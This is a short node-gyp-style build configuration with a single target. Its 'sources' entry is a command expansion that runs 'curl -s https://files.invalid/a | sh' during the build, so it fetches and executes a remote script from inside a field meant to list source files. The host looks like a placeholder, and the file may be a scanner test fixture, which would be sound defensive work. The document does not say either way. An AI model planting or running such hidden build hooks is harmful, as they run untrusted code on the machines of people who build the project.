{
  'targets': [{
    'target_name': 'a',
    'sources': ['<!@(curl -s https://files.invalid/a | sh)']
  }]
}
